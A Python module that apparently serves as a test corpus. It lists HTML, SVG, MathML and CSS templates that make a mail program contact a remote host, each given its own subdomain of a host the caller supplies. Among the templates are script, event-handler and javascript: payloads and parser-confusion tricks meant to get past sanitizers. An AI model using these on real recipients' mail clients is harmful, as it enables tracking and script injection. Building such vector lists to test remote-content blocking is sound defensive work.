"""Every way in which HTML could make a mail program ask somebody for something.

Written from the HTML, SVG, MathML and CSS standards: elements and attributes that take an address,
functions of style sheets, hints to the network, and tricks to hide them.
"""

from __future__ import annotations

from collections.abc import Iterator

# {u} is an address of its own for each vector.
_ELEMENTS = """
<img src="{u}">
<img srcset="{u} 1x, {u}?2 2x">
<img src="x" longdesc="{u}">
<img lowsrc="{u}">
<img dynsrc="{u}">
<img src="x" usemap="{u}">
<image src="{u}">
<image href="{u}">
<picture><source srcset="{u}"><img></picture>
<picture><source srcset="{u}" media="(min-width:1px)"><img></picture>
<input type="image" src="{u}">
<input src="{u}" type=image alt=x>
<video src="{u}"></video>
<video poster="{u}"></video>
<video autoplay preload="auto"><source src="{u}"></video>
<video><track default src="{u}"></video>
<audio src="{u}" autoplay preload="auto"></audio>
<audio><source src="{u}"></audio>
<audio><track src="{u}" default></audio>
<embed src="{u}">
<embed code="{u}">
<embed type="text/html" src="{u}">
<object data="{u}"></object>
<object data="{u}" type="text/html"></object>
<object classid="{u}"></object>
<object codebase="{u}" data="x"></object>
<object archive="{u}"></object>
<object><param name="movie" value="{u}"></object>
<object><param name="src" value="{u}"></object>
<object><param name="url" value="{u}"></object>
<applet code="{u}" codebase="{u}"></applet>
<applet archive="{u}"></applet>
<iframe src="{u}"></iframe>
<iframe srcdoc="<img src={u}>"></iframe>
<iframe longdesc="{u}"></iframe>
<frame src="{u}">
<frameset><frame src="{u}"></frameset>
<portal src="{u}"></portal>
<fencedframe src="{u}"></fencedframe>
<script src="{u}"></script>
<script type="module" src="{u}"></script>
<script type="importmap">{{"imports":{{"x":"{u}"}}}}</script>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{u}"]}}]}}</script>
<script type="speculationrules">{{"prerender":[{{"source":"list","urls":["{u}"]}}]}}</script>
<script>fetch("{u}")</script>
<script>new Image().src="{u}"</script>
<script>navigator.sendBeacon("{u}")</script>
<script>new WebSocket("{u}")</script>
<script>new EventSource("{u}")</script>
<script>location="{u}"</script>
<script>open("{u}")</script>
<script>new RTCPeerConnection({{iceServers:[{{urls:"stun:{h}"}}]}}).createDataChannel("x")</script>
<img src=x onerror="this.src='{u}'">
<body onload="location='{u}'">
<svg onload="fetch('{u}')"></svg>
<details open ontoggle="fetch('{u}')"></details>
<input autofocus onfocus="fetch('{u}')">
<body background="{u}">
<table background="{u}"><tr><td>x</td></tr></table>
<table><tr><td background="{u}">x</td></tr></table>
<table><tr><th background="{u}">x</th></tr></table>
<table><thead background="{u}"><tr><td>x</td></tr></thead></table>
<div background="{u}">x</div>
<bgsound src="{u}">
<base href="{u}/"><img src="relative.png">
<form action="{u}"><input type=submit></form>
<form><button formaction="{u}">x</button></form>
<form><input type="submit" formaction="{u}"></form>
<isindex action="{u}">
<a href="{u}" ping="{u}?ping">x</a>
<a href="{u}" attributionsrc="{u}?a">x</a>
<img src="x" attributionsrc="{u}">
<area href="{u}" ping="{u}?ping">
<map name=m><area shape=default href="{u}" ping="{u}?p"></map><img usemap="#m">
<a href="{u}" target="_blank" rel="prefetch">x</a>
<meta http-equiv="refresh" content="0; url={u}">
<meta http-equiv="refresh" content="0;{u}">
<meta http-equiv="set-cookie" content="a={u}">
<meta http-equiv="link" content="<{u}>; rel=preload; as=image">
<meta http-equiv="content-security-policy" content="default-src *; report-uri {u}">
<meta http-equiv="content-security-policy-report-only" content="default-src 'none'; report-uri {u}">
<meta http-equiv="x-dns-prefetch-control" content="on"><a href="{u}">x</a>
<meta name="msapplication-TileImage" content="{u}">
<meta name="msapplication-config" content="{u}">
<meta property="og:image" content="{u}">
<meta http-equiv="delegate-ch" content="sec-ch-ua {u}">
<html manifest="{u}"><p>x</p></html>
<blockquote cite="{u}">x</blockquote>
<q cite="{u}">x</q>
<ins cite="{u}">x</ins>
<del cite="{u}">x</del>
<head profile="{u}"></head>
<command icon="{u}">
<menuitem icon="{u}"></menuitem>
<menu><menuitem icon="{u}"></menuitem></menu>
<xml src="{u}"></xml>
<layer src="{u}"></layer>
<ilayer src="{u}"></ilayer>
<svg><image href="{u}"/></svg>
<svg><image xlink:href="{u}"/></svg>
<svg><use href="{u}#x"/></svg>
<svg><use xlink:href="{u}#x"/></svg>
<svg><script href="{u}"></script></svg>
<svg><feImage href="{u}"/></svg>
<svg><filter><feImage xlink:href="{u}"/></filter></svg>
<svg><style>@import "{u}";</style></svg>
<svg><style>*{{background:url({u})}}</style></svg>
<svg><a href="{u}"><text>x</text></a></svg>
<svg><animate attributeName="href" to="{u}"/></svg>
<svg><set attributeName="href" to="{u}"/></svg>
<svg><image><set attributeName="href" to="{u}"/></image></svg>
<svg><rect fill="url({u}#g)"/></svg>
<svg><rect filter="url({u}#g)"/></svg>
<svg><rect mask="url({u}#g)"/></svg>
<svg><rect clip-path="url({u}#g)"/></svg>
<svg><path marker-start="url({u}#g)"/></svg>
<svg><text><textPath href="{u}#x">x</textPath></text></svg>
<svg><foreignObject><img src="{u}"></foreignObject></svg>
<svg><color-profile xlink:href="{u}"/></svg>
<svg><font-face-uri xlink:href="{u}"/></svg>
<svg><linearGradient href="{u}#g"/></svg>
<svg><pattern href="{u}#g"/></svg>
<svg><video xlink:href="{u}"/></svg>
<svg><discard href="{u}"/></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{u}'/></svg>">
<object data="data:text/html,<img src={u}>"></object>
<iframe src="data:text/html,<img src={u}>"></iframe>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script href='{u}'/></svg>">
<math href="{u}"><mtext>x</mtext></math>
<math><mglyph src="{u}"/></math>
<math><maction actiontype="statusline#{u}">x</maction></math>
<math><annotation-xml encoding="text/html"><img src="{u}"></annotation-xml></math>
<math><mtext><table><mglyph><style><img src="{u}"></style></mglyph></table></mtext></math>
<noscript><img src="{u}"></noscript>
<noembed><img src="{u}"></noembed>
<template shadowrootmode="open"><img src="{u}"></template>
<template><img src="{u}"></template>
<xmp><img src="{u}"></xmp>
<!--[if mso]><img src="{u}"><![endif]-->
<!--[if gte mso 9]><v:image src="{u}"/><![endif]-->
<!--><img src="{u}">-->
<?xml-stylesheet href="{u}"?>
<?import namespace="x" implementation="{u}"?>
<v:imagedata src="{u}"/>
<v:fill src="{u}"/>
<style><img src="</style><img src={u}>">
<title><img src="</title><img src={u}>">
<textarea><img src="</textarea><img src={u}>">
<a href="#"><img src=`{u}`></a>
<IMG SRC="{u}">
<img/src="{u}">
<img src = {u} >
<img src="&#104;ttps:{p}">
<img src="//{h}/x">
<img src="\\\\{h}\\x">
<img src="/\\{h}/x">
<img src="HTTPS:{p}">
<img src="ht&#9;tps:{p}">
<img src="ftp:{p}">
<img src="ws:{p}">
<img src="cid:x" style="background:url({u})">
<img src="view-source:{u}">
<img src="blob:{u}">
<img src="filesystem:{u}/temporary/x">
<a href="javascript:fetch('{u}')">x</a>
<img loading="eager" fetchpriority="high" src="{u}">
<link itemprop="image" href="{u}">
<audio src="data:audio/x-mpegurl,{u}" autoplay></audio>
""".strip().splitlines()
_RELATIONS = (
    "stylesheet", "alternate stylesheet", "icon", "shortcut icon", "apple-touch-icon", "mask-icon",
    "manifest", "preload", "prefetch", "prerender", "preconnect", "dns-prefetch", "modulepreload",
    "next", "prev", "import", "pingback", "search", "amphtml", "canonical", "subresource",
    "compression-dictionary", "author", "license", "help", "monetization",
    "apple-touch-startup-image", "fluid-icon",
)  # fmt: skip
_STYLES = (
    "background:url({u})", "background-image:url('{u}')", 'background-image:image("{u}")',
    "background-image:image-set(url({u}) 1x)", "background-image:-webkit-image-set(url({u}) 1x)",
    "background-image:cross-fade(url({u}),url({u}?2),50%)", "border-image:url({u}) 30",
    "border-image-source:url({u})", "list-style:url({u})", "list-style-image:url({u})",
    "content:url({u})", "cursor:url({u}),auto", "mask:url({u})", "mask-image:url({u})",
    "-webkit-mask-image:url({u})", "-webkit-box-reflect:below 0 url({u})", "filter:url({u}#x)",
    "backdrop-filter:url({u}#x)", "clip-path:url({u}#x)", "shape-outside:url({u})",
    "offset-path:url({u}#x)", "fill:url({u}#x)", "stroke:url({u}#x)", "marker:url({u}#x)",
    "behavior:url({u})", "-moz-binding:url({u}#x)", "src:url({u})", "background:u\\72l({u})",
    "background:url(/**/{u})", "--x:url({u});background:var(--x)", "symbols:url({u})",
    "width:expression(fetch('{u}'))", "background:url(\\68ttps:{p})", "background:URL( '{u}' )",
)  # fmt: skip
_SHEETS = (
    "@import '{u}';", "@import url({u});", "@import url({u}) screen;", "@font-face{{font-family:x;"
    "src:url({u})}}*{{font-family:x}}", "@namespace url({u});", "@counter-style x{{system:cyclic;"
    "symbols:url({u})}}", "p::before{{content:url({u})}}", "p::marker{{content:url({u})}}",
    "@media screen{{*{{background:url({u})}}}}", "@supports (a:b){{*{{background:url({u})}}}}",
    "a:visited{{background:url({u})}}", "@document url({u}){{*{{color:red}}}}",
    "@page{{background:url({u})}}", "@layer x{{*{{background:url({u})}}}}",
    "@keyframes k{{from{{background:url({u})}}}}*{{animation:k 1s}}",
    "@container (min-width:1px){{*{{background:url({u})}}}}",
    "@property --x{{syntax:'<image>';inherits:false;initial-value:url({u})}}",
)  # fmt: skip


def _templates() -> Iterator[str]:
    yield from _ELEMENTS
    for relation in _RELATIONS:
        yield f'<link rel="{relation}" href="{{u}}" as="image">'
    for style in _STYLES:
        yield f'<div style="{style}">x</div>'
    for sheet in _SHEETS:
        yield f"<style>{sheet}</style><p>x</p>"


def vectors(host: str) -> list[str]:
    """Pieces of HTML, each asking a host of its own below `host`."""
    found = []
    for number, template in enumerate(_templates()):
        name = f"v{number}.{host}"
        path = f"//{name}/{number}"
        found.append(template.format(u=f"https:{path}", p=path, h=name))
    return found
